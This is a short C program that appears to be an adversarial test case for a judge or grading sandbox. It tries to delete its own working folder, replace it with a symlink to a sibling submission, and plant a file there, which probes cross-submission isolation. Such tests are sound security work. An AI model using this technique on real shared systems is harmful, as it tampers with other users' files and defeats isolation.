// verdict: AC
// Removes its own folder and puts a link to another submission in its place, as far as it may.
#include "attack.h"

int main(void)
{
    learn();
    char path[4096];
    if (getcwd(path, sizeof path) && rmdir(path) == 0 && symlink(sibling, path) == 0)
        close(open("planted", O_CREAT | O_WRONLY, 0644));
    return done();
}
